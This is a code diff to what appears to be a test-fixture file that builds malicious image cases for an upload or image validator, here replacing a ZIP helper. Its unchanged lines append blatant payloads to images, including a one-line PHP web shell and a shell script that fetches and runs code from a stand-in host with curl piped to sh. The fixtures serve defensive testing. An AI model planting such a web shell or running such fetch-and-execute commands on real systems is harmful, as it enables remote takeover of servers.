@@ -3,6 +3,8 @@
  * markup with script, images carrying a second file (ZIP, PHP, shell, PDF, script) inside or after
  * them. Each declares the reason it is built for; the payloads are blatant, never borderline.
  */
+
+import { storedZip } from "../../support/zip";
 import { badPicture, type CaseKind, dims, type PersonBuilder } from "../builder";
 import { htmlErrorPage } from "../html";
 import {
@@ -15,7 +17,6 @@ import {
   jpegSegment,
   pngText,
   type RasterKind,
-  zipArchive,
 } from "../imaging";
 import { makeBlob } from "../model";
 
@@ -141,7 +142,7 @@ export const MALICIOUS_CASES: CaseKind[] = [
       const picture = await badPicture(b, kind);
       const tail =
         flavour === 0
-          ? zipArchive([{ name: "readme.txt", content: `hidden payload for ${b.slug}\n` }])
+          ? storedZip([{ name: "readme.txt", content: `hidden payload for ${b.slug}\n` }])
           : flavour === 1
             ? Buffer.from(`<?php system($_GET['cmd']); /* ${b.slug} */ ?>\n`)
             : Buffer.from(`#!/bin/sh\ncurl -s https://collector.invalid/${b.slug} | sh\n`);
